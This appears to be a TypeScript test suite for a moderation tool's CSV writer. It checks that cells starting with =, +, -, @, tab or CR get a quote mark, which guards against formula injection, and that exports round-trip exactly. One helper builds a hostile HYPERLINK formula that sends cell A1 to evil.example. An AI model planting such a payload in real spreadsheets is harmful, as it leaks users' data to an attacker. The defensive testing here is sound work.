/**
 * CSV injection: every CSV rasd writes puts a `'` before a text cell a spreadsheet would take for
 * a formula (=, +, -, @, tab, CR), numbers rasd computed stay as they are, and the bank export
 * reads back exactly (the mark taken off again).
 */

import assert from "node:assert/strict";
import { Readable } from "node:stream";
import { describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import type { Signal } from "../../src/core/model.js";
import { FORMULA_LEADS, csvCell, csvText, neutralise, unneutralise } from "../../src/kernels/csv.js";
import { recordsCsv } from "../../src/report/csv.js";
import type { TransparencyReport } from "../../src/services/report.js";
import { csvHeader, formatSignal, readSignalFile } from "../../src/services/signal-files.js";

const HOSTILE = (lead: string) => `${lead}HYPERLINK("http://evil.example/?x="&A1,"click")`;

function signal(over: Partial<Signal>): Signal {
  return {
    id: 7,
    bankId: 1,
    type: "text",
    value: "v",
    quality: null,
    labels: { entity: ["isis"], behaviour: [], language: ["ar"] },
    confidence: 90,
    source: "analyst",
    firstSeen: Date.UTC(2026, 0, 1),
    lastSeen: Date.UTC(2026, 0, 2),
    status: "active",
    createdAt: 0,
    updatedAt: 0,
    changeSeq: 3,
    ...over,
  };
}

async function readBack(csv: string): Promise<Record<string, string>[]> {
  const out: Record<string, string>[] = [];
  for await (const rec of readSignalFile(Readable.from([csv]), "csv")) {
    assert.equal(rec.error, undefined);
    out.push(rec.raw as Record<string, string>);
  }
  return out;
}

describe("CSV cells against formula injection", () => {
  it("lists OWASP's leading characters", () => {
    assert.deepEqual([...FORMULA_LEADS], ["=", "+", "-", "@", "\t", "\r"]);
  });

  for (const lead of FORMULA_LEADS) {
    it(`neutralises a text cell beginning with ${JSON.stringify(lead)} and reads it back`, () => {
      const text = HOSTILE(lead);
      const cell = csvText(text);
      const [row] = parse(`${cell}\n`, { trim: true }) as string[][];
      assert.ok(row);
      assert.equal(row[0], `'${text}`, "a spreadsheet sees text, not a formula");
      assert.equal(unneutralise(row[0]!), text);
    });
  }

  it("leaves other text alone and quotes as RFC 4180 needs", () => {
    assert.equal(csvText("isis"), "isis");
    assert.equal(csvText("'quoted"), "'quoted");
    assert.equal(csvText("a,b"), '"a,b"');
    assert.equal(csvText('say "x"'), '"say ""x"""');
    assert.equal(csvText(" padded "), '" padded "');
    assert.equal(csvText("\r\n"), `"'\r\n"`);
    assert.equal(csvText(null), "");
  });

  it("keeps a mark that was already there distinguishable ('=x is written ''=x)", () => {
    for (const text of ["'=x", "''-1", "'", "'a", "=", "-", "''"]) {
      assert.equal(unneutralise(neutralise(text)), text, text);
    }
    assert.equal(neutralise("'=x"), "''=x");
    assert.equal(neutralise("'a"), "'a");
  });

  it("writes numbers rasd computed as numbers, negative ones included", () => {
    assert.equal(csvCell(-3), "-3");
    assert.equal(csvCell(0.25), "0.25");
    assert.equal(csvCell("-3"), "'-3", "the same characters as text are neutralised");
  });
});

describe("bank export (signal files)", () => {
  for (const lead of FORMULA_LEADS) {
    it(`round-trips a signal whose value and source begin with ${JSON.stringify(lead)}`, async () => {
      const s = signal({ value: HOSTILE(lead), source: `${lead}1+1` });
      const line = formatSignal(s, "csv");
      // Every text cell that could be a formula carries the mark in the file.
      const [cells] = parse(line, { trim: true }) as string[][];
      assert.ok(cells);
      assert.equal(cells[2], `'${s.value}`);
      assert.equal(cells[7], `'${s.source}`);
      const [back] = await readBack(csvHeader() + line);
      assert.ok(back);
      assert.equal(back.value, s.value);
      assert.equal(back.source, s.source);
      assert.equal(back.id, "7");
      assert.equal(back.confidence, "90");
      assert.equal(back.change_seq, "3");
    });
  }

  it("reads a value that really begins with ' and a formula character back as written", async () => {
    const s = signal({ value: "'=not a formula", source: "'-" });
    const [back] = await readBack(csvHeader() + formatSignal(s, "csv"));
    assert.equal(back?.value, "'=not a formula");
    assert.equal(back?.source, "'-");
  });
});

describe("report records (items.csv, outcomes.csv)", () => {
  const report = {
    removalOrders: { received: 1, metWithinOneHour: 1, notActioned: 0, notActionedByReason: {} },
    removals: { removed: 1, disabled: 0, byBasis: {} },
    complaints: { received: 0, upheld: 0, rejected: 0, pending: 0 },
    reviewProceedings: { filed: 0, upheld: 0, overturned: 0 },
    restorations: { total: 0, afterComplaint: 0, byReason: {} },
    takedown: { overall: { items: 1 }, byPlatform: [] },
    stance: undefined,
    records: {
      items: FORMULA_LEADS.map((lead, i) => ({
        itemId: i + 1,
        platform: `${lead}platform`,
        bankIds: [1, 2],
        receivedAt: Date.UTC(2026, 0, 1),
        actedAt: null,
        orderAt: null,
        removedAt: null,
        restoredAt: null,
      })),
      outcomes: FORMULA_LEADS.map((lead, i) => ({
        id: i + 1,
        itemId: i + 1,
        org: `${lead}org`,
        kind: "removed",
        basis: "tos",
        reason: HOSTILE(lead),
        authority: `${lead}authority`,
        at: "2026-01-01T00:00:00.000Z",
      })),
    },
  } as unknown as TransparencyReport;

  it("neutralises every text cell that could be a formula; ids and times stay as they are", () => {
    const csv = recordsCsv(report.records);
    const items = parse(csv.items, { columns: true }) as Record<string, string>[];
    assert.equal(items.length, FORMULA_LEADS.length);
    items.forEach((r, i) => {
      assert.equal(r.item_id, String(i + 1));
      assert.equal(r.platform, `'${FORMULA_LEADS[i]}platform`);
      assert.equal(r.received_at, "2026-01-01T00:00:00.000Z");
    });
    const outcomes = parse(csv.outcomes, { columns: true }) as Record<string, string>[];
    outcomes.forEach((o, i) => {
      const lead = FORMULA_LEADS[i]!;
      assert.equal(o.outcome_id, String(i + 1));
      assert.equal(o.organisation, `'${lead}org`);
      assert.equal(o.reason, `'${HOSTILE(lead)}`);
      assert.equal(o.authority, `'${lead}authority`);
    });
  });
});
